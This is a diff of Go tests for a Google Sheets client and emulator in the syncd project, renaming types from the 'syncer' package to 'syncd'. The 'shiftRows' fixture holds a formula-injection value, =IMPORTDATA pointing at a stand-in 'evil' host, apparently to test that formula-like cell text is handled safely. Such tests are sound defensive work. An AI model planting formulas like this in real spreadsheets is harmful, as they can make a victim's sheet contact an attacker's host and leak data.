@@ -17,8 +17,8 @@ import (
 
 	sheetsapi "google.golang.org/api/sheets/v4"
 
+	"github.com/syncd/syncd"
 	"github.com/syncd/syncd/sheetsemu"
-	"github.com/syncd/syncd/syncer"
 )
 
 func startEmulator(t *testing.T, opts sheetsemu.Options) (*sheetsemu.Server, *httptest.Server) {
@@ -32,23 +32,23 @@ func startEmulator(t *testing.T, opts sheetsemu.Options) (*sheetsemu.Server, *ht
 	return emu, srv
 }
 
-var shiftCols = []syncer.Column{
-	{Name: "shift_id", Type: "bigint", Kind: syncer.KindInt, Scale: -1},
-	{Name: "shift_date", Type: "date", Kind: syncer.KindDate, Scale: -1},
-	{Name: "employee", Type: "text", Kind: syncer.KindText, Scale: -1},
-	{Name: "total_sales", Type: "numeric(12,2)", Kind: syncer.KindNumeric, Scale: 2},
-	{Name: "closed", Type: "boolean", Kind: syncer.KindBool, Scale: -1},
-	{Name: "started_at", Type: "timestamp with time zone", Kind: syncer.KindTimestampTZ, Scale: -1},
-	{Name: "meta", Type: "jsonb", Kind: syncer.KindJSON, Scale: -1},
-	{Name: "big", Type: "numeric", Kind: syncer.KindNumeric, Scale: -1},
+var shiftCols = []syncd.Column{
+	{Name: "shift_id", Type: "bigint", Kind: syncd.KindInt, Scale: -1},
+	{Name: "shift_date", Type: "date", Kind: syncd.KindDate, Scale: -1},
+	{Name: "employee", Type: "text", Kind: syncd.KindText, Scale: -1},
+	{Name: "total_sales", Type: "numeric(12,2)", Kind: syncd.KindNumeric, Scale: 2},
+	{Name: "closed", Type: "boolean", Kind: syncd.KindBool, Scale: -1},
+	{Name: "started_at", Type: "timestamp with time zone", Kind: syncd.KindTimestampTZ, Scale: -1},
+	{Name: "meta", Type: "jsonb", Kind: syncd.KindJSON, Scale: -1},
+	{Name: "big", Type: "numeric", Kind: syncd.KindNumeric, Scale: -1},
 }
 
-var shiftRows = [][]syncer.Value{
-	{syncer.Text("1"), syncer.Text("2025-01-31"), syncer.Text("=IMPORTDATA(\"http://evil\")"), syncer.Text("12.50"), syncer.Text("true"),
-		syncer.Text("2025-01-31 08:00:00.25+00"), syncer.Text(`{"a":[1,2]}`), syncer.Text("123456789012345678.9")},
-	{syncer.Text("9007199254740993"), syncer.Text("0044-03-15 BC"), syncer.Text("+7 999 123"), syncer.Text("0.00"), syncer.Text("false"),
-		syncer.Text("2025-10-26 01:30:00+00"), syncer.Text(`null`), syncer.Null},
-	{syncer.Text("3"), syncer.Null, syncer.Null, syncer.Text("-1234567.89"), syncer.Null, syncer.Null, syncer.Null, syncer.Text("0")},
+var shiftRows = [][]syncd.Value{
+	{syncd.Text("1"), syncd.Text("2025-01-31"), syncd.Text("=IMPORTDATA(\"http://evil\")"), syncd.Text("12.50"), syncd.Text("true"),
+		syncd.Text("2025-01-31 08:00:00.25+00"), syncd.Text(`{"a":[1,2]}`), syncd.Text("123456789012345678.9")},
+	{syncd.Text("9007199254740993"), syncd.Text("0044-03-15 BC"), syncd.Text("+7 999 123"), syncd.Text("0.00"), syncd.Text("false"),
+		syncd.Text("2025-10-26 01:30:00+00"), syncd.Text(`null`), syncd.Null},
+	{syncd.Text("3"), syncd.Null, syncd.Null, syncd.Text("-1234567.89"), syncd.Null, syncd.Null, syncd.Null, syncd.Text("0")},
 }
 
 // TestEmulatorReadGivesBackEncodedCells checks the invariant comparisons
@@ -61,21 +61,21 @@ func TestEmulatorReadGivesBackEncodedCells(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	rows := append(append([][]syncer.Value(nil), shiftRows...),
-		[]syncer.Value{syncer.Text("0"), syncer.Text("2025-01-31"), syncer.Text(""), syncer.Text("0"), syncer.Text("false"),
-			syncer.Text("infinity"), syncer.Text(`"#N/A"`), syncer.Text("-0.5")},
-		[]syncer.Value{syncer.Text("4"), syncer.Null, syncer.Text("#N/A"), syncer.Text("NaN"), syncer.Null, syncer.Null, syncer.Null, syncer.Null})
+	rows := append(append([][]syncd.Value(nil), shiftRows...),
+		[]syncd.Value{syncd.Text("0"), syncd.Text("2025-01-31"), syncd.Text(""), syncd.Text("0"), syncd.Text("false"),
+			syncd.Text("infinity"), syncd.Text(`"#N/A"`), syncd.Text("-0.5")},
+		[]syncd.Value{syncd.Text("4"), syncd.Null, syncd.Text("#N/A"), syncd.Text("NaN"), syncd.Null, syncd.Null, syncd.Null, syncd.Null})
 	want := encodeRows(t, time.UTC, rows)
-	if _, err := c.Apply(context.Background(), []syncer.Op{syncer.WriteRows{SheetID: 0, Row: 0, Rows: want}}); err != nil {
+	if _, err := c.Apply(context.Background(), []syncd.Op{syncd.WriteRows{SheetID: 0, Row: 0, Rows: want}}); err != nil {
 		t.Fatal(err)
 	}
-	got, err := c.Read(context.Background(), []syncer.Range{{Tab: "Sheet1", EndRow: len(want), EndCol: len(shiftCols)}})
+	got, err := c.Read(context.Background(), []syncd.Range{{Tab: "Sheet1", EndRow: len(want), EndCol: len(shiftCols)}})
 	if err != nil {
 		t.Fatal(err)
 	}
 	for i, row := range want {
 		for j, w := range row {
-			var g syncer.Cell
+			var g syncd.Cell
 			if i < len(got[0]) && j < len(got[0][i]) {
 				g = got[0][i][j]
 			}
@@ -86,9 +86,9 @@ func TestEmulatorReadGivesBackEncodedCells(t *testing.T) {
 	}
 }
 
-func encodeRows(t *testing.T, loc *time.Location, rows [][]syncer.Value) [][]syncer.Cell {
+func encodeRows(t *testing.T, loc *time.Location, rows [][]syncd.Value) [][]syncd.Cell {
 	t.Helper()
-	out := make([][]syncer.Cell, len(rows))
+	out := make([][]syncd.Cell, len(rows))
 	for i, r := range rows {
 		for j, v := range r {
 			c, _ := Codec{}.Encode(shiftCols[j], v, loc)
@@ -98,8 +98,8 @@ func encodeRows(t *testing.T, loc *time.Location, rows [][]syncer.Value) [][]syn
 	return out
 }
 
-func formats() []syncer.NumberFormat {
-	var f []syncer.NumberFormat
+func formats() []syncd.NumberFormat {
+	var f []syncd.NumberFormat
 	for _, c := range shiftCols {
 		f = append(f, Codec{}.Format(c))
 	}
@@ -115,17 +115,17 @@ func headers() []string {
 }
 
 // readBack reads the tab and decodes every data row.
-func readBack(t *testing.T, c *Client, tab string, loc *time.Location) [][]syncer.Value {
+func readBack(t *testing.T, c *Client, tab string, loc *time.Location) [][]syncd.Value {
 	t.Helper()
-	got, err := c.Read(context.Background(), []syncer.Range{{Tab: tab, StartRow: 1, EndCol: len(shiftCols)}})
+	got, err := c.Read(context.Background(), []syncd.Range{{Tab: tab, StartRow: 1, EndCol: len(shiftCols)}})
 	if err != nil {
 		t.Fatalf("Read: %v", err)
 	}
-	var out [][]syncer.Value
+	var out [][]syncd.Value
 	for i, row := range got[0] {
-		vals := make([]syncer.Value, len(shiftCols))
+		vals := make([]syncd.Value, len(shiftCols))
 		for j := range shiftCols {
-			var cell syncer.Cell
+			var cell syncd.Cell
 			if j < len(row) {
 				cell = row[j]
 			}
@@ -140,7 +140,7 @@ func readBack(t *testing.T, c *Client, tab string, loc *time.Location) [][]synce
 	return out
 }
 
-func sameRows(t *testing.T, got, want [][]syncer.Value) {
+func sameRows(t *testing.T, got, want [][]syncd.Value) {
 	t.Helper()
 	if len(got) != len(want) {
 		t.Fatalf("%d rows, want %d: %v", len(got), len(want), got)
@@ -171,9 +171,9 @@ func TestEmulatorApplyReadInfoRoundTrip(t *testing.T) {
 	}
 	loc := info.TimeZone
 
-	calls, err := c.Apply(ctx, []syncer.Op{
-		syncer.AddTab{SheetID: 42, Title: "Shifts 2025", Header: headers(), Formats: formats()},
-		syncer.AppendRows{SheetID: 42, Rows: encodeRows(t, loc, shiftRows), Formats: formats()},
+	calls, err := c.Apply(ctx, []syncd.Op{
+		syncd.AddTab{SheetID: 42, Title: "Shifts 2025", Header: headers(), Formats: formats()},
+		syncd.AppendRows{SheetID: 42, Rows: encodeRows(t, loc, shiftRows), Formats: formats()},
 	})
 	if err != nil || calls != 1 {
 		t.Fatalf("Apply(AddTab, AppendRows) = %d calls, %v; want 1", calls, err)
@@ -186,17 +186,17 @@ func TestEmulatorApplyReadInfoRoundTrip(t *testing.T) {
 	if !ok || tab.SheetID != 42 || tab.FrozenRows != 1 {
 		t.Fatalf("new tab = %+v (found %v); want sheet 42 with a frozen header", tab, ok)
 	}
-	head, err := c.Read(ctx, []syncer.Range{{Tab: "Shifts 2025", EndRow: 1, EndCol: len(shiftCols)}})
+	head, err := c.Read(ctx, []syncd.Range{{Tab: "Shifts 2025", EndRow: 1, EndCol: len(shiftCols)}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(head[0]) != 1 || len(head[0][0]) != len(shiftCols) || head[0][0][3] != syncer.StringCell("total_sales") {
+	if len(head[0]) != 1 || len(head[0][0]) != len(shiftCols) || head[0][0][3] != syncd.StringCell("total_sales") {
 		t.Errorf("header row = %+v", head)
 	}
 	sameRows(t, readBack(t, c, "Shifts 2025", loc), shiftRows)
 
 	// Ranges A1 cannot express are read wide and cropped.
-	got, err := c.Read(ctx, []syncer.Range{
+	got, err := c.Read(ctx, []syncd.Range{
 		{Tab: "Shifts 2025", StartRow: 1},
 		{Tab: "Shifts 2025", StartRow: 1, EndCol: len(shiftCols)},
 		{Tab: "Shifts 2025", StartRow: 2, StartCol: 3},
@@ -214,18 +214,18 @@ func TestEmulatorApplyReadInfoRoundTrip(t *testing.T) {
 
 	// Overwrite row 2 (0-based: the first data row is 1), delete the
 	// last data row, rename the tab: one call.
-	changed := [][]syncer.Value{append([]syncer.Value(nil), shiftRows[0]...)}
-	changed[0][3] = syncer.Text("99.99")
-	changed[0][2] = syncer.Text("Ann")
-	calls, err = c.Apply(ctx, []syncer.Op{
-		syncer.WriteRows{SheetID: 42, Row: 1, Rows: encodeRows(t, loc, changed)},
-		syncer.DeleteRows{SheetID: 42, Start: 3, End: 4},
-		syncer.RenameTab{SheetID: 42, Title: "Shifts"},
+	changed := [][]syncd.Value{append([]syncd.Value(nil), shiftRows[0]...)}
+	changed[0][3] = syncd.Text("99.99")
+	changed[0][2] = syncd.Text("Ann")
+	calls, err = c.Apply(ctx, []syncd.Op{
+		syncd.WriteRows{SheetID: 42, Row: 1, Rows: encodeRows(t, loc, changed)},
+		syncd.DeleteRows{SheetID: 42, Start: 3, End: 4},
+		syncd.RenameTab{SheetID: 42, Title: "Shifts"},
 	})
 	if err != nil || calls != 1 {
 		t.Fatalf("second Apply = %d calls, %v", calls, err)
 	}
-	sameRows(t, readBack(t, c, "Shifts", loc), [][]syncer.Value{changed[0], shiftRows[1]})
+	sameRows(t, readBack(t, c, "Shifts", loc), [][]syncd.Value{changed[0], shiftRows[1]})
 	if st := c.Stats(); st.WriteCalls != 2 || st.ReadCalls != 6 || st.RateLimited != 0 {
 		t.Errorf("stats %+v", st)
 	}
@@ -311,8 +311,8 @@ func TestEmulatorQuotaNeverSees429(t *testing.T) {
 			done := make(chan error, 1)
 			go func() {
 				for i := 0; i < writes; i++ {
-					op := syncer.WriteRows{SheetID: 0, Row: i, Rows: [][]syncer.Cell{{syncer.NumberCell(float64(i))}}}
-					if _, err := c.Apply(context.Background(), []syncer.Op{op}); err != nil {
+					op := syncd.WriteRows{SheetID: 0, Row: i, Rows: [][]syncd.Cell{{syncd.NumberCell(float64(i))}}}
+					if _, err := c.Apply(context.Background(), []syncd.Op{op}); err != nil {
 						done <- err
 						return
 					}
@@ -358,12 +358,12 @@ func TestEmulatorConcurrentUse(t *testing.T) {
 		go func(g int) {
 			defer wg.Done()
 			for i := 0; i < 5; i++ {
-				op := syncer.WriteRows{SheetID: 0, Row: g*5 + i, Rows: [][]syncer.Cell{{syncer.NumberCell(float64(g*5 + i))}}}
-				if _, err := c.Apply(context.Background(), []syncer.Op{op}); err != nil {
+				op := syncd.WriteRows{SheetID: 0, Row: g*5 + i, Rows: [][]syncd.Cell{{syncd.NumberCell(float64(g*5 + i))}}}
+				if _, err := c.Apply(context.Background(), []syncd.Op{op}); err != nil {
 					errs <- err
 					return
 				}
-				if _, err := c.Read(context.Background(), []syncer.Range{{Tab: "Sheet1", EndCol: 1}}); err != nil {
+				if _, err := c.Read(context.Background(), []syncd.Range{{Tab: "Sheet1", EndCol: 1}}); err != nil {
 					errs <- err
 					return
 				}
@@ -375,11 +375,11 @@ func TestEmulatorConcurrentUse(t *testing.T) {
 	for err := range errs {
 		t.Error(err)
 	}
-	got, err := c.Read(context.Background(), []syncer.Range{{Tab: "Sheet1", EndCol: 1}})
+	got, err := c.Read(context.Background(), []syncd.Range{{Tab: "Sheet1", EndCol: 1}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(got[0]) != 40 || got[0][39][0] != syncer.NumberCell(39) {
+	if len(got[0]) != 40 || got[0][39][0] != syncd.NumberCell(39) {
 		t.Errorf("after 40 concurrent writes the column has %d rows", len(got[0]))
 	}
 	if st := c.Stats(); st.WriteCalls != 40 || st.ReadCalls != 41 {
@@ -399,16 +399,16 @@ func TestEmulatorAppendedRowsCarryColumnFormats(t *testing.T) {
 		t.Fatal(err)
 	}
 	date := Codec{}.Format(colDate)
-	formats := []syncer.NumberFormat{{}, date}
-	rows := make([][]syncer.Cell, 1200)
+	formats := []syncd.NumberFormat{{}, date}
+	rows := make([][]syncd.Cell, 1200)
 	for i := range rows {
-		rows[i] = []syncer.Cell{syncer.NumberCell(float64(i)), syncer.NumberCell(45688 + float64(i))}
+		rows[i] = []syncd.Cell{syncd.NumberCell(float64(i)), syncd.NumberCell(45688 + float64(i))}
 	}
 	ctx := context.Background()
-	if _, err := c.Apply(ctx, []syncer.Op{syncer.AddTab{SheetID: 5, Title: "T", Header: []string{"n", "day"}, Formats: formats}}); err != nil {
+	if _, err := c.Apply(ctx, []syncd.Op{syncd.AddTab{SheetID: 5, Title: "T", Header: []string{"n", "day"}, Formats: formats}}); err != nil {
 		t.Fatal(err)
 	}
-	if calls, err := c.Apply(ctx, []syncer.Op{syncer.AppendRows{SheetID: 5, Rows: rows, Formats: formats}}); err != nil || calls != 1 {
+	if calls, err := c.Apply(ctx, []syncd.Op{syncd.AppendRows{SheetID: 5, Rows: rows, Formats: formats}}); err != nil || calls != 1 {
 		t.Fatalf("Apply(AppendRows) = %d calls, %v", calls, err)
 	}
 	ss, err := c.svc.Spreadsheets.Get(id).Ranges("T!B1201").
